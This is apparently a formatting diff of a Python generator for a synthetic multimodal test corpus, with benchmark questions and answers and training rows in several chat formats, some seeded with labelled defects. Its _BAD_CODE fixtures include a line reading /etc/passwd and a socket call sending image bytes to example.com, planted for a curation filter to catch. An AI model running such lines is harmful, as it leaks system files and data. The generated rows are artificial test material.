@@ -1773,15 +2328,23 @@ def write_benchmark(out: Path, spec: CorpusSpec, shard: int = 0) -> ShardResult:
 
 
 _VIDEO_QUESTIONS = (
-    ("Which best describes the camera movement in this clip?",
-     ["it pans across a drawing", "it stays still", "it zooms into a face", "it follows a car"]),
-    ("What kind of scene does the video show?",
-     ["simple drawn shapes and signs", "a football match", "a city street at night", "a cooking show"]),
+    (
+        "Which best describes the camera movement in this clip?",
+        ["it pans across a drawing", "it stays still", "it zooms into a face", "it follows a car"],
+    ),
+    (
+        "What kind of scene does the video show?",
+        ["simple drawn shapes and signs", "a football match", "a city street at night", "a cooking show"],
+    ),
     ("How many seconds does the clip last, roughly?", ["about 5", "about 30", "about 60", "about 120"]),
 )
 _VIDEO_OVERLAYS = ("SALE", "NEWS", "LIVE", "Coffee", "Station", "Exit", "Market", "Report", "Daily", "Open")
-_VIDEO_CAPTIONS = ("A short animation panning across simple shapes.", "Clip: coloured shapes drift past a sign.",
-                   "Animated drawing, camera moving slowly to the side.", "Shapes moving across a flat background.")
+_VIDEO_CAPTIONS = (
+    "A short animation panning across simple shapes.",
+    "Clip: coloured shapes drift past a sign.",
+    "Animated drawing, camera moving slowly to the side.",
+    "Shapes moving across a flat background.",
+)
 
 
 def bench_video(seed: int, k: int) -> bytes:
@@ -1800,17 +2363,35 @@ def write_benchmark_videos(out: Path, spec: CorpusSpec, shard: int = 0) -> Shard
             question, options = _VIDEO_QUESTIONS[k % len(_VIDEO_QUESTIONS)]
             rel = f"videos/vid-{k + 1:04d}.mp4"
             (out / "benchmark" / rel).write_bytes(bench_video(spec.seed, k))
-            f.write(json.dumps({"id": f"vid-{k + 1:04d}", "question": question,
-                                "options": rng.sample(options, len(options)), "answer": options[0],
-                                "video": rel}) + "\n")
+            f.write(
+                json.dumps(
+                    {
+                        "id": f"vid-{k + 1:04d}",
+                        "question": question,
+                        "options": rng.sample(options, len(options)),
+                        "answer": options[0],
+                        "video": rel,
+                    }
+                )
+                + "\n"
+            )
     return res
 
 
 def write_video_shard(out: Path, spec: CorpusSpec, shard: int) -> ShardResult:
     """Video rows as JSONL (key, caption, video path, url) with the mp4 files in ``clips/``."""
     from curation.io.video import probe
-    from curation.sample_video import (make_audio_only, make_black, make_burned_text, make_multi_shot, make_static,
-                                       make_video, other_container, reencode, truncate)
+    from curation.sample_video import (
+        make_audio_only,
+        make_black,
+        make_burned_text,
+        make_multi_shot,
+        make_static,
+        make_video,
+        other_container,
+        reencode,
+        truncate,
+    )
 
     rel = spec.path("video", shard)
     res = ShardResult("video", shard, spec.shard_len("video", shard), files=[rel])
@@ -1844,7 +2425,10 @@ def write_video_shard(out: Path, spec: CorpusSpec, shard: int) -> ShardResult:
                 data = make_multi_shot(spec.seed, idx, rng.randint(2, 3))
             elif kind == "burned_text":
                 words = rng.sample(_VIDEO_OVERLAYS, 2)
-                data, caption = make_burned_text(spec.seed, idx, " ".join(words)), f"{caption} Text on screen."
+                data, caption = (
+                    make_burned_text(spec.seed, idx, " ".join(words)),
+                    f"{caption} Text on screen.",
+                )
             else:
                 data = make_video(spec.seed, idx)
                 if kind == "truncated_video":
@@ -1853,8 +2437,17 @@ def write_video_shard(out: Path, spec: CorpusSpec, shard: int) -> ShardResult:
                     data, ext = other_container(data, video_container(spec, shard, i))
             clip = f"clips/{key}.{ext}"
             (folder / clip).write_bytes(data)
-            f.write(json.dumps({"key": key, "caption": caption, "video": clip,
-                                "url": SOURCE_URL["video"].format(key=key)}) + "\n")
+            f.write(
+                json.dumps(
+                    {
+                        "key": key,
+                        "caption": caption,
+                        "video": clip,
+                        "url": SOURCE_URL["video"].format(key=key),
+                    }
+                )
+                + "\n"
+            )
             res.truth.append(_truth(rel, i, key, "video", kind, None, bench))
     return res
 
@@ -1873,8 +2466,13 @@ SFT_SHARE = 0.2
 SFT_ROWS = (60, 1500)
 SFT_MODE_MIX = {"non_thinking": 330, "thinking": 230, "auto_think": 20, "think_with_image": 100, "video": 50}
 SFT_SOURCES = ("llava", "sharegpt", "qa", "think_with_image", "video_qa")
-SFT_FILES = {"llava": "sft/llava/00000.json", "sharegpt": "sft/sharegpt/00000.jsonl", "qa": "sft/qa/00000.parquet",
-             "think_with_image": "sft/think_with_image/00000.jsonl", "video_qa": "sft/video_qa/00000.jsonl"}
+SFT_FILES = {
+    "llava": "sft/llava/00000.json",
+    "sharegpt": "sft/sharegpt/00000.jsonl",
+    "qa": "sft/qa/00000.parquet",
+    "think_with_image": "sft/think_with_image/00000.jsonl",
+    "video_qa": "sft/video_qa/00000.jsonl",
+}
 # Share of each mode's clean rows that each source holds (every mode's shares add up to 1).
 SFT_SPLIT = {
     "llava": {"non_thinking": 0.6, "thinking": 0.2},
@@ -1925,28 +2523,53 @@ SFT_DIRT: dict[str, dict[str, tuple[str, str, str]]] = {
     },
     "video_qa": {
         "missing_video": ("video", "ingest", "missing_video_file"),
-        "truncated_video": ("video", "ingest", "unreadable_video"),  # only when the corpus has a truncated clip
+        "truncated_video": (
+            "video",
+            "ingest",
+            "unreadable_video",
+        ),  # only when the corpus has a truncated clip
     },
 }
 SFT_DIRT_RATE = 0.03  # rows of each dirt kind per clean row of the source (at least one)
-SFT_TRUTH_SCHEMA = pa.schema([
-    ("file", pa.string()), ("offset", pa.int64()), ("key", pa.string()), ("source", pa.string()),
-    ("mode", pa.string()), ("dirt", pa.string()), ("stage", pa.string()), ("reason", pa.string()),
-])
-SFT_QA_SCHEMA = pa.schema([
-    ("id", pa.string()), ("question", pa.string()), ("answer", pa.string()), ("reasoning", pa.string()),
-    ("analysis", pa.string()), ("image", pa.binary()), ("mode", pa.string()),
-])
+SFT_TRUTH_SCHEMA = pa.schema(
+    [
+        ("file", pa.string()),
+        ("offset", pa.int64()),
+        ("key", pa.string()),
+        ("source", pa.string()),
+        ("mode", pa.string()),
+        ("dirt", pa.string()),
+        ("stage", pa.string()),
+        ("reason", pa.string()),
+    ]
+)
+SFT_QA_SCHEMA = pa.schema(
+    [
+        ("id", pa.string()),
+        ("question", pa.string()),
+        ("answer", pa.string()),
+        ("reasoning", pa.string()),
+        ("analysis", pa.string()),
+        ("image", pa.binary()),
+        ("mode", pa.string()),
+    ]
+)
 
-_LOOPS = ("Let me look at the picture again to be sure about the answer.",
-          "Wait, I should check the colours once more before I answer.",
-          "The answer is the same as before, so let me verify it one more time.")
-_EASY = ("This is a simple question that I can answer directly.",
-         "The answer can be read straight from the picture, so no step-by-step reasoning is needed.",
-         "A direct lookup: there is nothing to work out.")
-_HARD = ("This needs a few steps of calculation, so I will work through it first.",
-         "Several numbers have to be combined; I should reason step by step.",
-         "It is easy to slip on arithmetic like this, so I will think before answering.")
+_LOOPS = (
+    "Let me look at the picture again to be sure about the answer.",
+    "Wait, I should check the colours once more before I answer.",
+    "The answer is the same as before, so let me verify it one more time.",
+)
+_EASY = (
+    "This is a simple question that I can answer directly.",
+    "The answer can be read straight from the picture, so no step-by-step reasoning is needed.",
+    "A direct lookup: there is nothing to work out.",
+)
+_HARD = (
+    "This needs a few steps of calculation, so I will work through it first.",
+    "Several numbers have to be combined; I should reason step by step.",
+    "It is easy to slip on arithmetic like this, so I will think before answering.",
+)
 _SYSTEM = "You are a helpful assistant."
 
 
@@ -1958,9 +2581,13 @@ def video_container(spec: CorpusSpec, shard: int, i: int) -> str:
 
 def _clips(spec: CorpusSpec, kind: str) -> list[str]:
     """Paths (relative to the corpus) of the video source's clips of one dirt kind, in order."""
-    return [f"{SOURCE_DIR['video']}/clips/{spec.key(sh, i)}."
-            f"{video_container(spec, sh, i) if kind == 'clean' else 'mp4'}" for sh in range(spec.n_shards("video"))
-            for i, k in enumerate(shard_plan(spec, "video", sh)) if k == kind]
+    return [
+        f"{SOURCE_DIR['video']}/clips/{spec.key(sh, i)}."
+        f"{video_container(spec, sh, i) if kind == 'clean' else 'mp4'}"
+        for sh in range(spec.n_shards("video"))
+        for i, k in enumerate(shard_plan(spec, "video", sh))
+        if k == kind
+    ]
 
 
 @functools.lru_cache(maxsize=8)
@@ -1973,14 +2600,20 @@ def sft_plan(spec: CorpusSpec) -> dict[str, tuple[tuple[str, str], ...]]:
     per_mode["video"] = min(per_mode["video"], len(_VIDEO_QA) * len(_clips(spec, "clean")))
     plan = {}
     for source in SFT_SOURCES:
-        rows = [(mode, "clean") for mode, share in SFT_SPLIT[source].items() for _ in range(round(per_mode[mode] * share))]
+        rows = [
+            (mode, "clean")
+            for mode, share in SFT_SPLIT[source].items()
+            for _ in range(round(per_mode[mode] * share))
+        ]
         n_clean = len(rows)
         for kind, (mode, _, _) in SFT_DIRT[source].items():
             if kind == "truncated_video" and not _clips(spec, "truncated_video"):
                 continue
-            rows += [(mode, kind)] * (1 if kind == "infinite_loop" else max(1, round(n_clean * SFT_DIRT_RATE)))
+            rows += [(mode, kind)] * (
+                1 if kind == "infinite_loop" else max(1, round(n_clean * SFT_DIRT_RATE))
+            )
         head = rows[:1] if rows and rows[0][1] == "clean" else []
-        rest = rows[len(head):]
+        rest = rows[len(head) :]
         _rng(spec.seed, "sft", source, "plan").shuffle(rest)
         plan[source] = tuple(head + rest)
     return plan
@@ -1993,40 +2626,63 @@ def _scene_qa(scene: dict, rng: random.Random) -> tuple[str, str, str]:
         groups = scene["groups"]
         if scene["label"] and rng.random() < 0.3:
             phrase, ink, where = scene["label"]
-            return ("What is written in the picture?", f"It says '{phrase}'.",
-                    f"There is text at the {where} of the image, in {ink} letters. It spells '{phrase}'.")
+            return (
+                "What is written in the picture?",
+                f"It says '{phrase}'.",
+                f"There is text at the {where} of the image, in {ink} letters. It spells '{phrase}'.",
+            )
         shape = rng.choice([s for s, _, _, _ in groups])
         same = [g for g in groups if g[0] == shape]
         n = sum(g[2] for g in same)
         if n == 1 and rng.random() < 0.5:
             colour = same[0][1]
-            return (f"What colour is the {shape}?", f"The {shape} is {colour}.",
-                    f"There is only one {shape} in the image, and it is filled with {colour}.")
+            return (
+                f"What colour is the {shape}?",
+                f"The {shape} is {colour}.",
+                f"There is only one {shape} in the image, and it is filled with {colour}.",
+            )
         if rng.random() < 0.5:
             total = sum(g[2] for g in groups)
             counts = " + ".join(str(g[2]) for g in groups)
             answer = f"There {'is' if total == 1 else 'are'} {NUMBERS_EN[total]} in total."
-            return ("How many shapes are there in total?", answer,
-                    f"The picture shows {_items_en(groups)}. Adding the groups up: {counts} = {total}.")
+            return (
+                "How many shapes are there in total?",
+                answer,
+                f"The picture shows {_items_en(groups)}. Adding the groups up: {counts} = {total}.",
+            )
         noun = shape if n == 1 else _plural(shape)
-        return (f"How many {_plural(shape)} are there in the picture?",
-                f"There {'is' if n == 1 else 'are'} {NUMBERS_EN[n]} {noun}.",
-                f"I look for every {shape} in the picture and find {_items_en(same)}. That makes {NUMBERS_EN[n]}.")
+        return (
+            f"How many {_plural(shape)} are there in the picture?",
+            f"There {'is' if n == 1 else 'are'} {NUMBERS_EN[n]} {noun}.",
+            f"I look for every {shape} in the picture and find {_items_en(same)}. That makes {NUMBERS_EN[n]}.",
+        )
     if kind == "sign":
         if rng.random() < 0.6:
-            return ("What does the sign say?", f"The sign says '{scene['phrase']}'.",
-                    f"The {scene['board']} sign has {scene['ink']} letters on it that spell '{scene['phrase']}'.")
-        return ("What colour is the sign?", f"The sign is {scene['board']}.",
-                f"The board in the middle of the picture is painted {scene['board']}, with {scene['ink']} text.")
+            return (
+                "What does the sign say?",
+                f"The sign says '{scene['phrase']}'.",
+                f"The {scene['board']} sign has {scene['ink']} letters on it that spell '{scene['phrase']}'.",
+            )
+        return (
+            "What colour is the sign?",
+            f"The sign is {scene['board']}.",
+            f"The board in the middle of the picture is painted {scene['board']}, with {scene['ink']} text.",
+        )
     names = [o["obj"] for o in scene["objects"]]
     car = next((o for o in scene["objects"] if o["obj"] == "car"), None)
     if car and rng.random() < 0.5:
-        return ("What colour is the car?", f"The car is {car['colour']}.",
-                f"The car is the object with two black wheels; its body is {car['colour']}.")
+        return (
+            "What colour is the car?",
+            f"The car is {car['colour']}.",
+            f"The car is the object with two black wheels; its body is {car['colour']}.",
+        )
     listed = _join_en([_a(n) for n in names])
     grass = " on green grass" if scene["ground"] else ""
-    return ("Which objects can you see in this picture?", f"I can see {listed}.",
-            f"From left to right the drawing shows {listed}{grass}.")
+    return (
+        "Which objects can you see in this picture?",
+        f"I can see {listed}.",
+        f"From left to right the drawing shows {listed}{grass}.",
+    )
 
 
 def _text_qa(rng: random.Random, reasoned: bool) -> tuple[str, str, str]:
@@ -2035,37 +2691,61 @@ def _text_qa(rng: random.Random, reasoned: bool) -> tuple[str, str, str]:
     Every kind draws from thousands of parameter combinations, so generated rows are not accidental
     exact duplicates of each other (exact duplicates are planted on purpose, and labelled).
     """
-    kind = rng.choice(("add", "mul", "price", "units") if reasoned else ("add", "units", "compare", "sequence"))
+    kind = rng.choice(
+        ("add", "mul", "price", "units") if reasoned else ("add", "units", "compare", "sequence")
+    )
     if kind == "add":
         a, b = rng.randint(12, 989), rng.randint(12, 989)
         tens = b // 10 * 10
-        return (f"What is {a} + {b}?", f"{a + b}.",
-                (f"First add the hundreds and tens: {a} + {tens} = {a + tens}. Then add the remaining {b % 10} "
-                 f"to get {a + b}."))
+        return (
+            f"What is {a} + {b}?",
+            f"{a + b}.",
+            (
+                f"First add the hundreds and tens: {a} + {tens} = {a + tens}. Then add the remaining {b % 10} "
+                f"to get {a + b}."
+            ),
+        )
     if kind == "mul":
         a, b = rng.randint(3, 29), rng.randint(12, 999)
         tens = b // 10 * 10
-        return (f"What is {a} x {b}?", f"{a * b}.",
-                (f"Split {b} into {tens} and {b % 10}: {a} x {tens} = {a * tens} and {a} x {b % 10} = "
-                 f"{a * (b % 10)}. Together that is {a * b}."))
+        return (
+            f"What is {a} x {b}?",
+            f"{a * b}.",
+            (
+                f"Split {b} into {tens} and {b % 10}: {a} x {tens} = {a * tens} and {a} x {b % 10} = "
+                f"{a * (b % 10)}. Together that is {a * b}."
+            ),
+        )
     if kind == "price":
         p, n = rng.randint(15, 195), rng.randint(3, 19)
         item = rng.choice(("pencil", "apple", "stamp", "ticket", "notebook", "candle"))
-        return (f"One {item} costs {p} cents. How much do {n} of them cost?", f"{n * p} cents.",
-                f"Each {item} costs {p} cents, so {n} of them cost {n} x {p} = {n * p} cents.")
+        return (
+            f"One {item} costs {p} cents. How much do {n} of them cost?",
+            f"{n * p} cents.",
+            f"Each {item} costs {p} cents, so {n} of them cost {n} x {p} = {n * p} cents.",
+        )
     if kind == "units":
         big, small, per = rng.choice((("hours", "minutes", 60), ("minutes", "seconds", 60)))
         a, b = rng.randint(1, 99), rng.randint(1, 59)
-        return (f"How many {small} are there in {a} {big} and {b} {small}?", f"{a * per + b} {small}.",
-                f"Each of the {a} {big} has {per} {small}, which gives {a * per}; adding {b} more makes {a * per + b}.")
+        return (
+            f"How many {small} are there in {a} {big} and {b} {small}?",
+            f"{a * per + b} {small}.",
+            f"Each of the {a} {big} has {per} {small}, which gives {a * per}; adding {b} more makes {a * per + b}.",
+        )
     if kind == "compare":
         a, b = rng.sample(range(100, 10_000), 2)
-        return (f"Which number is larger, {a} or {b}?", f"{max(a, b)}.",
-                f"{max(a, b)} is larger than {min(a, b)}.")
+        return (
+            f"Which number is larger, {a} or {b}?",
+            f"{max(a, b)}.",
+            f"{max(a, b)} is larger than {min(a, b)}.",
+        )
     a, d = rng.randint(1, 99), rng.randint(2, 15)
     seq = ", ".join(str(a + k * d) for k in range(4))
-    return (f"What number comes next: {seq}?", f"{a + 4 * d}.",
-            f"Each number is {d} more than the one before, so the next is {a + 3 * d} + {d} = {a + 4 * d}.")
+    return (
+        f"What number comes next: {seq}?",
+        f"{a + 4 * d}.",
+        f"Each number is {d} more than the one before, so the next is {a + 3 * d} + {d} = {a + 4 * d}.",
+    )
 
 
 def _sft_image(rng: random.Random, shapes_only: bool = False) -> tuple[dict, bytes, int, int]:
@@ -2093,26 +2773,44 @@ def _llava_record(spec: CorpusSpec, i: int, mode: str, dirt: str) -> tuple[dict,
     if layout == "two":
         (s1, img1, _, _), (s2, img2, _, _) = _sft_image(rng, True), _sft_image(rng, True)
         n1, n2 = (sum(g[2] for g in s["groups"]) for s in (s1, s2))
-        answer = ("The first picture." if n1 > n2 else "The second picture." if n2 > n1
-                  else "Neither: they show the same number.")
-        turns = [("<image>\n<image>\nWhich of the two pictures shows more shapes?", answer,
-                  f"The first picture has {NUMBERS_EN[n1]} and the second has {NUMBERS_EN[n2]}.")]
+        answer = (
+            "The first picture."
+            if n1 > n2
+            else "The second picture."
+            if n2 > n1
+            else "Neither: they show the same number."
+        )
+        turns = [
+            (
+                "<image>\n<image>\nWhich of the two pictures shows more shapes?",
+                answer,
+                f"The first picture has {NUMBERS_EN[n1]} and the second has {NUMBERS_EN[n2]}.",
+            )
+        ]
         files = [(f"images/{key}-0.jpg", img1), (f"images/{key}-1.jpg", img2)]
     else:
         scene, img, _, _ = _sft_image(rng)
         files = [(f"images/{key}.jpg", img)]
         q, a, r = _scene_qa(scene, rng)
-        prompt = {"before": f"<image>\n{q}", "after": f"{q}\n<image>", "none": q, "multi": f"<image>\n{q}"}[layout]
+        prompt = {"before": f"<image>\n{q}", "after": f"{q}\n<image>", "none": q, "multi": f"<image>\n{q}"}[
+            layout
+        ]
         turns = [(prompt, a, r)]
         if layout == "multi":
             q2, a2, r2 = _scene_qa(scene, rng)
             turns.append((q2, a2, r2))
     conversations = []
     for q, a, r in turns:
-        conversations += [{"from": "human", "value": q}, {"from": "gpt", "value": _reply(a, r if think else None)}]
+        conversations += [
+            {"from": "human", "value": q},
+            {"from": "gpt", "value": _reply(a, r if think else None)},
+        ]
     images = [rel for rel, _ in files]
-    record: dict[str, Any] = {"id": key, "image": images[0] if len(images) == 1 else images,
-                              "conversations": conversations}
+    record: dict[str, Any] = {
+        "id": key,
+        "image": images[0] if len(images) == 1 else images,
+        "conversations": conversations,
+    }
     last = conversations[-1]
     if dirt == "unbalanced_think":
         last["value"] = last["value"].replace("</think>", "")
@@ -2148,8 +2846,9 @@ def _new_text_qa(rng: random.Random, reasoned: bool, seen: set[str]) -> tuple[st
     return q, a, r
 
 
-def _sharegpt_record(spec: CorpusSpec, i: int, mode: str, dirt: str,
-                     seen: set[str]) -> tuple[dict, list[tuple[str, bytes]]]:
+def _sharegpt_record(
+    spec: CorpusSpec, i: int, mode: str, dirt: str, seen: set[str]
+) -> tuple[dict, list[tuple[str, bytes]]]:
     """An OpenAI-style record (``messages`` of ``{role, content}`` with image parts, ``images``)."""
     rng = _rng(spec.seed, "sft", "sharegpt", i)
     key = f"sharegpt-{i:05d}"
@@ -2160,13 +2859,19 @@ def _sharegpt_record(spec: CorpusSpec, i: int, mode: str, dirt: str,
         scene, img, _, _ = _sft_image(rng)
         q, a, r = _scene_qa(scene, rng)
         files = [(f"images/{key}.jpg", img)]
-        user: Any = ([{"type": "image", "index": 0}, {"type": "text", "text": q}] if rng.random() < 0.7
-                     else f"<image>{q}")  # llama-factory writes the placeholder into the text
+        user: Any = (
+            [{"type": "image", "index": 0}, {"type": "text", "text": q}]
+            if rng.random() < 0.7
+            else f"<image>{q}"
+        )  # llama-factory writes the placeholder into the text
     else:  # with a system turn, which the qa table never has: no accidental duplicate across the two
         q, a, r = _new_text_qa(rng, think, seen)
         user, system = q, True
     messages: list[dict] = [{"role": "system", "content": _SYSTEM}] if system else []
-    messages += [{"role": "user", "content": user}, {"role": "assistant", "content": _reply(a, r if think else None)}]
+    messages += [
+        {"role": "user", "content": user},
+        {"role": "assistant", "content": _reply(a, r if think else None)},
+    ]
     record: dict[str, Any] = {"id": key, "messages": messages, "images": [rel for rel, _ in files]}
     if dirt == "image_ref_out_of_range":
         messages[-2]["content"] = [{"type": "image", "index": 1}, {"type": "text", "text": q}]
@@ -2191,8 +2896,15 @@ def _qa_record(spec: CorpusSpec, i: int, mode: str, dirt: str, seen: set[str]) -
         q, a, r = _scene_qa(scene, rng)
     else:
         q, a, r = _new_text_qa(rng, reasoned, seen)
-    row = {"id": f"qa-{i:05d}", "question": q, "answer": a, "reasoning": r if reasoned else None,
-           "analysis": None, "image": image, "mode": mode if rng.random() < 0.5 else None}
+    row = {
+        "id": f"qa-{i:05d}",
+        "question": q,
+        "answer": a,
+        "reasoning": r if reasoned else None,
+        "analysis": None,
+        "image": image,
+        "mode": mode if rng.random() < 0.5 else None,
+    }
     if mode == "auto_think":
         row["analysis"] = rng.choice(_HARD if reasoned else _EASY)
     if dirt == "empty_answer":
@@ -2242,43 +2954,71 @@ def _twi_task(rng: random.Random) -> tuple[Image.Image, str, str, str, str, tupl
         y = (h - strip.height) // 2
         img.paste(strip, (x, y))
         box = (max(0, x - 6), max(0, y - 6), min(w, x + strip.width + 6), min(h, y + strip.height + 6))
-        code = (f"region = image.crop({box})\n"
-                "result = region.rotate(-90, expand=True).resize((region.height * 3, region.width * 3))")
-        reasoning = (f"The text along the {side} edge is turned on its side, so it is hard to read. I will crop "
-                     "that strip and rotate it upright.")
-        return (img, f"Some text runs sideways along the {side} edge. What does it say?", f"It says '{word}'.",
-                reasoning, code, box)
+        code = (
+            f"region = image.crop({box})\n"
+            "result = region.rotate(-90, expand=True).resize((region.height * 3, region.width * 3))"
+        )
+        reasoning = (
+            f"The text along the {side} edge is turned on its side, so it is hard to read. I will crop "
+            "that strip and rotate it upright."
+        )
+        return (
+            img,
+            f"Some text runs sideways along the {side} edge. What does it say?",
+            f"It says '{word}'.",
+            reasoning,
+            code,
+            box,
+        )
     if task == "mark":
-        colour = rng.choice(("red", "blue", "green", "purple", "orange", "black"))  # on a white patch of its own
+        colour = rng.choice(
+            ("red", "blue", "green", "purple", "orange", "black")
+        )  # on a white patch of its own
         bw = bh = 14
         x, y = _corner_xy(corner, w, h, bw, bh, rng)
         draw.rectangle([x, y, x + bw, y + bh], fill=COLOURS["white"])
         draw.ellipse([x + 4, y + 4, x + bw - 4, y + bh - 4], fill=COLOURS[colour])
         question, answer = f"What colour is the tiny dot near the {corner} corner?", f"The dot is {colour}."
-        reasoning = (f"There is a tiny dot near the {corner} corner, only a few pixels wide. I will crop around it "
-                     "and enlarge it to see its colour.")
+        reasoning = (
+            f"There is a tiny dot near the {corner} corner, only a few pixels wide. I will crop around it "
+            "and enlarge it to see its colour."
+        )
     else:
         size = 9 if task == "zoom" else 14
         font = _font(size)
         bw, bh = int(font.getlength(word)) + 6, size + 6
         x, y = _corner_xy(corner, w, h, bw, bh, rng)
-        paper, ink = ((245, 245, 245), COLOURS["black"]) if task == "zoom" else ((200, 200, 200), (186, 186, 186))
+        paper, ink = (
+            ((245, 245, 245), COLOURS["black"]) if task == "zoom" else ((200, 200, 200), (186, 186, 186))
+        )
         draw.rectangle([x, y, x + bw, y + bh], fill=paper)
         draw.text((x + 3, y + 3), word, font=font, fill=ink)
         if task == "zoom":
-            question, answer = f"What is written on the small label in the {corner} corner?", f"The label reads '{word}'."
-            reasoning = (f"The label in the {corner} corner is only a few pixels tall, too small to read at this "
-                         "size. I will crop the region around it and enlarge it four times.")
+            question, answer = (
+                f"What is written on the small label in the {corner} corner?",
+                f"The label reads '{word}'.",
+            )
+            reasoning = (
+                f"The label in the {corner} corner is only a few pixels tall, too small to read at this "
+                "size. I will crop the region around it and enlarge it four times."
+            )
         else:
-            question, answer = f"There is faint writing in the {corner} corner. What does it say?", f"It says '{word}'."
-            reasoning = (f"The writing in the {corner} corner is barely darker than its background. Raising the "
-                         "contrast of that region should make it readable.")
+            question, answer = (
+                f"There is faint writing in the {corner} corner. What does it say?",
+                f"It says '{word}'.",
+            )
+            reasoning = (
+                f"The writing in the {corner} corner is barely darker than its background. Raising the "
+                "contrast of that region should make it readable."
+            )
     pad = 10
     box = (max(0, x - pad), max(0, y - pad), min(w, x + bw + pad), min(h, y + bh + pad))
     if task == "enhance":
-        code = ("from PIL import ImageEnhance\n"
-                f"region = image.crop({box})\n"
-                "result = ImageEnhance.Contrast(region).enhance(6.0).resize((region.width * 3, region.height * 3))")
+        code = (
+            "from PIL import ImageEnhance\n"
+            f"region = image.crop({box})\n"
+            "result = ImageEnhance.Contrast(region).enhance(6.0).resize((region.width * 3, region.height * 3))"
+        )
     else:
         code = f"x0, y0, x1, y1 = {box}\nresult = image.crop((x0, y0, x1, y1)).resize(((x1 - x0) * 4, (y1 - y0) * 4))"
     return img, question, answer, reasoning, code, box
@@ -2289,8 +3029,10 @@ _BAD_CODE = {
     "syntax_error": "result = image.crop(({x0}, {y0}, {x1}, {y1}).resize(({dw}, {dh}))",
     "raises": "result = image.crop(({x0}, {y0}, {x1}, {y1})).resize((0, -{dh}))",
     "reads_file": "secret = open('/etc/passwd').read()\nresult = image.crop(({x0}, {y0}, {x1}, {y1}))",
-    "opens_socket": ("import socket\nconn = socket.create_connection(('example.com', 80), timeout=2)\n"
-                     "conn.sendall(image.tobytes()[:64])\nresult = image.crop(({x0}, {y0}, {x1}, {y1}))"),
+    "opens_socket": (
+        "import socket\nconn = socket.create_connection(('example.com', 80), timeout=2)\n"
+        "conn.sendall(image.tobytes()[:64])\nresult = image.crop(({x0}, {y0}, {x1}, {y1}))"
+    ),
     "no_result": "zoomed = image.crop(({x0}, {y0}, {x1}, {y1})).resize(({dw}, {dh}))",
     "infinite_loop": "while True:\n    pass\nresult = image",
 }
@@ -2306,18 +3048,32 @@ def _twi_record(spec: CorpusSpec, i: int, mode: str, dirt: str) -> tuple[dict, l
     files = [(image, encode_image(img, "png"))]
     if dirt == "missing_image":
         image, files = f"images/missing-{key}.png", []
-    return {"id": key, "question": question, "answer": answer, "reasoning": reasoning, "code": code,
-            "image": image}, files
+    return {
+        "id": key,
+        "question": question,
+        "answer": answer,
+        "reasoning": reasoning,
+        "code": code,
+        "image": image,
+    }, files
 
 
 _VIDEO_QA = (
-    ("About how long is this clip?", "About {s} seconds.",
-     "The sampled frames run from the start to about {d:.1f} seconds, so the clip lasts roughly {s} seconds."),
-    ("What does the camera do in this video?", "It pans slowly across a drawing of simple shapes, objects and signs.",
-     "From frame to frame the whole drawing shifts a little in the same direction: the camera is panning."),
-    ("What moves in front of the background?",
-     "One or more coloured shapes drift across the view and bounce off its edges.",
-     "Besides the panning background, some small shapes change position between frames and turn back at the edges."),
+    (
+        "About how long is this clip?",
+        "About {s} seconds.",
+        "The sampled frames run from the start to about {d:.1f} seconds, so the clip lasts roughly {s} seconds.",
+    ),
+    (
+        "What does the camera do in this video?",
+        "It pans slowly across a drawing of simple shapes, objects and signs.",
+        "From frame to frame the whole drawing shifts a little in the same direction: the camera is panning.",
+    ),
+    (
+        "What moves in front of the background?",
+        "One or more coloured shapes drift across the view and bounce off its edges.",
+        "Besides the panning background, some small shapes change position between frames and turn back at the edges.",
+    ),
 )
 
 
@@ -2328,13 +3084,17 @@ def _video_qa_record(spec: CorpusSpec, i: int, mode: str, dirt: str, out: Path) 
     clips = _clips(spec, "clean")
     key = f"vqa-{i:05d}"
     if dirt == "missing_video":
-        return {"id": key, "question": _VIDEO_QA[0][0], "answer": "About 5 seconds.",
-                "video": f"../../{SOURCE_DIR['video']}/clips/missing-{key}.mp4"}
+        return {
+            "id": key,
+            "question": _VIDEO_QA[0][0],
+            "answer": "About 5 seconds.",
+            "video": f"../../{SOURCE_DIR['video']}/clips/missing-{key}.mp4",
+        }
     if dirt == "truncated_video":
         clip = _clips(spec, "truncated_video")[0]
         return {"id": key, "question": _VIDEO_QA[1][0], "answer": _VIDEO_QA[1][1], "video": f"../../{clip}"}
     k = sum(1 for _, d in sft_plan(spec)["video_qa"][:i] if d == "clean")  # clean rows before: one question
-    clip = clips[k % len(clips)]                                           # per (clip, question), never twice
+    clip = clips[k % len(clips)]  # per (clip, question), never twice
     q, a, r = _VIDEO_QA[(k // len(clips)) % len(_VIDEO_QA)]
     d = probe(str(out / clip)).duration or 0.0
     record = {"id": key, "question": q, "answer": a.format(s=round(d)), "video": f"../../{clip}"}
@@ -2354,7 +3114,9 @@ def write_sft_source(out: Path, spec: CorpusSpec, source: str) -> ShardResult:
     for i, (mode, dirt) in enumerate(plan):
         files: list[tuple[str, bytes]] = []
         if source == "llava" and dirt == "exact_duplicate":  # an earlier clean record, re-derived: same bytes
-            j = _rng(spec.seed, "sft", "llava", i, "dup").choice([k for k in range(i) if plan[k][1] == "clean"])
+            j = _rng(spec.seed, "sft", "llava", i, "dup").choice(
+                [k for k in range(i) if plan[k][1] == "clean"]
+            )
             record = dict(_llava_record(spec, j, *plan[j])[0], id=f"llava-{i:05d}")
             mode = plan[j][0]
         elif source == "llava":
@@ -2388,6 +3150,7 @@ def write_sft_source(out: Path, spec: CorpusSpec, source: str) -> ShardResult:
 def _sft_writer(source: str):
     def write(out: Path, spec: CorpusSpec, shard: int = 0) -> ShardResult:
         return write_sft_source(out, spec, source)
+
     return write
 
 
@@ -2413,12 +3176,33 @@ def _run_task(task: tuple[str, CorpusSpec, str, int]) -> ShardResult:
 # Driver
 # --------------------------------------------------------------------------------------------
 
-_LAYOUT_DIRS = ("image_text/wds", "image_text/parquet", "image_text/jsonl/images", "interleaved/images",
-                "text", "video/clips", "benchmark/images", "benchmark/videos", "sft/llava/images",
-                "sft/sharegpt/images", "sft/qa", "sft/think_with_image/images", "sft/video_qa")
+_LAYOUT_DIRS = (
+    "image_text/wds",
+    "image_text/parquet",
+    "image_text/jsonl/images",
+    "interleaved/images",
+    "text",
+    "video/clips",
+    "benchmark/images",
+    "benchmark/videos",
+    "sft/llava/images",
+    "sft/sharegpt/images",
+    "sft/qa",
+    "sft/think_with_image/images",
+    "sft/video_qa",
+)
 
 
-_LAYOUT_TOP = ("image_text", "interleaved", "text", "video", "benchmark", "sft", "truth.parquet", "corpus.json")
+_LAYOUT_TOP = (
+    "image_text",
+    "interleaved",
+    "text",
+    "video",
